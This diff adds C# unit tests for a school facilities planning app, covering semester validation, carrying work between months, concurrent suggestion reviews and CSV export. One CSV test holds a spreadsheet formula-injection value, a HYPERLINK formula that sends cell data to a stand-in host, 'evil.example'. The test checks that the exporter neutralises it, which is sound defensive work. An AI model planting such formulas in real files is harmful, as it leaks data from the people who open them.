@@ -40,7 +40,9 @@ public sealed class PlanningTests : IAsyncLifetime
         var wang = await StaffIdAsync("Wang Lei");
         var lights = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Check classroom lights", PlanCategory.Repairs, wang, new DateOnly(2026, 8, 25), "All buildings"), dispatcher);
         await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Order chalk", PlanCategory.Purchasing, null, null, null), dispatcher);
+        var dropped = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Repaint the old gym", PlanCategory.Grounds, null, null, null), dispatcher);
         await Plans.SetStatusAsync(lights.Value!.Id, PlanStatus.Done, dispatcher);
+        await Plans.SetStatusAsync(dropped.Value!.Id, PlanStatus.Dropped, dispatcher);
         await Plans.AddAsync(autumn, PlanPhase.PostStart, new DateOnly(2026, 11, 1), new PlanItemInput("Not a checklist item", PlanCategory.Other, null, null, null), dispatcher);
 
         var spring = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2)), autumn, dispatcher);
@@ -53,6 +55,43 @@ public sealed class PlanningTests : IAsyncLifetime
         Assert.Equal(("Wang Lei", "All buildings"), (plan.PreStart[0].Owner, plan.PreStart[0].Notes));
         Assert.All(plan.Months, m => Assert.Empty(m.Items));
         Assert.Equal(6, plan.Months.Count); // February to July
+    }
+
+    [Fact]
+    public async Task NewSemester_BadDates_AreNamed_AndNothingIsStored()
+    {
+        var dispatcher = await _data.ActorAsync("dispatcher");
+        var before = await Plans.SemestersAsync();
+
+        var typo = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(227, 2, 22), new DateOnly(2027, 7, 2)), null, dispatcher);
+        var farFuture = await Plans.CreateSemesterAsync(new SemesterInput("Far", new DateOnly(9999, 1, 1), new DateOnly(9999, 6, 1)), null, dispatcher);
+        var overlapping = await Plans.CreateSemesterAsync(new SemesterInput("Winter term", new DateOnly(2027, 1, 10), new DateOnly(2027, 3, 1)), null, dispatcher);
+        var sameName = await Plans.CreateSemesterAsync(new SemesterInput("Autumn 2026", new DateOnly(2027, 9, 1), new DateOnly(2028, 1, 20)), null, dispatcher);
+        var backwards = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 7, 2), new DateOnly(2027, 2, 22)), null, dispatcher);
+
+        Assert.Contains("check the year", typo.Errors["startsOn"].Single());
+        Assert.Contains("check the year", farFuture.Errors["startsOn"].Single());
+        Assert.Contains("overlap Autumn 2026", overlapping.Errors["startsOn"].Single());
+        Assert.Contains("already a semester called Autumn 2026", sameName.Errors["name"].Single());
+        Assert.Contains("end after it starts", backwards.Errors["endsOn"].Single());
+        Assert.Equal(before.Select(s => s.Name), (await Plans.SemestersAsync()).Select(s => s.Name));
+    }
+
+    [Fact]
+    public async Task SemesterReport_BetweenTerms_LooksBackAtTheOneThatEnded()
+    {
+        await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2)), null, await _data.ActorAsync("dispatcher"));
+        var reports = _data.Get<ReportService>();
+
+        var during = await reports.PeriodAsync(PeriodKind.Semester);
+        _data.Time.SetUtcNow(new DateTimeOffset(2027, 2, 1, 2, 0, 0, TimeSpan.Zero)); // winter break
+        var winterBreak = await reports.PeriodAsync(PeriodKind.Semester);
+        _data.Time.SetUtcNow(new DateTimeOffset(2027, 3, 1, 2, 0, 0, TimeSpan.Zero));
+        var spring = await reports.PeriodAsync(PeriodKind.Semester);
+
+        Assert.Equal(("Autumn 2026", new DateOnly(2026, 9, 1), new DateOnly(2027, 1, 22)), (during.Label, during.From, during.To));
+        Assert.Equal("Autumn 2026", winterBreak.Label);
+        Assert.Equal("Spring 2027", spring.Label);
     }
 
     [Fact]
@@ -83,8 +122,28 @@ public sealed class PlanningTests : IAsyncLifetime
         var dec = plan.Months.Single(m => m.Month == november.AddMonths(1)).Items;
         Assert.Equal([PlanStatus.Done, PlanStatus.Carried, PlanStatus.Carried, PlanStatus.Dropped], nov.Select(i => i.Status));
         Assert.Equal(["Stair nosings", "Playground markings"], dec.Select(i => i.Title));
-        Assert.All(dec, i => Assert.Equal(PlanStatus.ToDo, i.Status));
+        Assert.Equal([PlanStatus.Doing, PlanStatus.ToDo], dec.Select(i => i.Status)); // work under way stays under way
         Assert.Equal(nov[1].Id, dec[0].CarriedFromId);
+    }
+
+    [Fact]
+    public async Task Carry_WorkOfSomeoneWhoLeft_WaitsForANewOwner_AndTheOldItemStaysEditable()
+    {
+        var autumn = await SemesterAsync();
+        var dispatcher = await _data.ActorAsync("dispatcher");
+        var november = new DateOnly(2026, 11, 1);
+        var liu = await StaffIdAsync("Liu Yang");
+        var markings = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Playground markings", PlanCategory.Grounds, liu, null, null), dispatcher);
+        await _data.QueryAsync(db => db.Staff.Where(s => s.Id == liu).ExecuteUpdateAsync(s => s.SetProperty(x => x.IsActive, false)));
+
+        var notes = await Plans.UpdateAsync(markings.Value!.Id, new PlanItemInput("Playground markings", PlanCategory.Grounds, liu, null, "Paint bought"), dispatcher);
+        var toSomeoneGone = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Benches", PlanCategory.Grounds, liu, null, null), dispatcher);
+        await Plans.CarryAsync(autumn, november, dispatcher);
+
+        Assert.True(notes.IsOk, notes.Describe());
+        Assert.Contains("no active staff member", toSomeoneGone.Errors["ownerId"].Single());
+        var carried = Assert.Single((await Plans.PlanAsync(autumn))!.Months.Single(m => m.Month == november.AddMonths(1)).Items);
+        Assert.Equal(("Playground markings", null, "Paint bought"), (carried.Title, carried.OwnerId, carried.Notes));
     }
 
     [Fact]
@@ -145,6 +204,24 @@ public sealed class PlanningTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task Suggestion_AnsweredFromTwoDevicesAtOnce_OneAnswerWins_TheAuthorHearsOnce()
+    {
+        var suggestions = _data.Get<SuggestionService>();
+        var sent = await suggestions.SubmitAsync(new SuggestionInput("Spare bulbs on every floor", "A box of tubes in each cleaning cupboard.", "Purchasing", null), await _data.ActorAsync("staff2"));
+        var principal = await _data.ActorAsync("principal");
+
+        var answers = await Task.WhenAll(
+            suggestions.ReviewAsync(sent.Value!.Id, SuggestionStatus.Accepted, "Yes.", principal),
+            suggestions.ReviewAsync(sent.Value.Id, SuggestionStatus.Declined, "No.", principal));
+
+        var winner = Assert.Single(answers, a => a.IsOk);
+        Assert.Equal(ResultKind.Conflict, Assert.Single(answers, a => !a.IsOk).Kind);
+        var stored = Assert.Single(await suggestions.MineAsync(sent.Value.AuthorUserId));
+        Assert.Equal((winner.Value!.Status, winner.Value.Reply), (stored.Status, stored.Reply));
+        Assert.Single(await _data.NotificationsForAsync("staff2"), n => n.Kind == NotificationKind.Decision);
+    }
+
+    [Fact]
     public async Task Csv_RoundTripsQuotesCommasNewlinesAndChineseText()
     {
         var rows = new[]
@@ -152,6 +229,7 @@ public sealed class PlanningTests : IAsyncLifetime
             new BreakdownCsvRow("教学楼 A › 二楼 › 204 教室", 3, 1, 2, 66.7, 30, 60),
             new BreakdownCsvRow("Hall, \"main\"\nsecond line", 1, 0, 1, null, null, null),
         };
+        var formula = new BreakdownCsvRow("=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", 1, 1, 0, null, null, null);
         using var stream = new MemoryStream();
 
         await CsvExport.WriteAsync(rows, stream, CancellationToken.None);
@@ -161,5 +239,10 @@ public sealed class PlanningTests : IAsyncLifetime
         var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
         Assert.Contains("\"Hall, \"\"main\"\"\nsecond line\"", text);
         Assert.Equal(rows, CsvExport.Read<BreakdownCsvRow>(new MemoryStream(bytes)));
+
+        // A reporter's formula is written as text for the spreadsheet, not as a formula.
+        using var withFormula = new MemoryStream();
+        await CsvExport.WriteAsync([formula], withFormula, CancellationToken.None);
+        Assert.Equal("'" + formula.Name, CsvExport.Read<BreakdownCsvRow>(new MemoryStream(withFormula.ToArray())).Single().Name);
     }
 }
